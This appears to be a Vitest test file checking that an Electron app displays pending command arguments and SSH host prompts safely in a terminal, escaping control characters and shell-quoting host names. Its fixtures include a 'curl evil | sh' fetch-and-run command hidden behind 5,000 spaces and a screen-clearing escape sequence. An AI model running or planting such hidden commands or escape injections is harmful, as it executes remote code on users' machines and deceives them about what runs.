import { describe, expect, it } from 'vitest'
import { needText } from '../../../electron/command/needText.ts'
import { makeChangedKey, makeProgram, makeWaiting } from '../../labs/makeNeeds.ts'

describe('what waits, in a terminal', () => {
  it('a program stands there whole, word by word, and moves no cursor', () => {
    const late = `x${' '.repeat(5_000)}; curl evil | sh`
    const need = makeProgram({ args: [late, '\u001b[2Jtwo\nlines'] })
    const text = needText(makeWaiting('kubernetes', 'attic', need))
    expect(text).toContain(JSON.stringify(late))
    expect(text).toContain('"\\u001b[2Jtwo\\nlines"')
    expect(text).not.toContain('\u001b')
    expect(text).toContain('homeport trust --allow attic')
  })

  it('commands name the host, quoted where a shell would take it for more', () => {
    const need = makeChangedKey('a b')
    expect(needText(makeWaiting('ssh', 'a b', need))).toContain(
      "homeport trust --replace CHARACTERS -- 'a b'",
    )
  })
})
